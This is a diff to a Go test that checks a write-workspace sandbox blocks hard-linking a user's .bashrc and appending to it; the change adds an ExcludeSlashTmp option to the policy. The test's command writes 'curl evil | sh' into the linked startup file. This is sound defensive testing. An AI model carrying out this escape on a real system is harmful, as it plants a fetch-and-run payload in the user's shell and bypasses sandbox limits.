@@ -28,7 +28,7 @@ func TestEscapeHardLinkOutOfRoots(t *testing.T) {
 			if err := os.WriteFile(bashrc, []byte("# user's\n"), 0o644); err != nil {
 				t.Fatal(err)
 			}
-			out, code := sh(t, protocol.SandboxPolicy{Mode: protocol.SandboxWorkspaceWrite}, work,
+			out, code := sh(t, protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite}, work,
 				"ln "+bashrc+" link && echo 'curl evil | sh' >> link")
 			if code == 0 {
 				t.Fatalf("the link was made and written: %s", out)
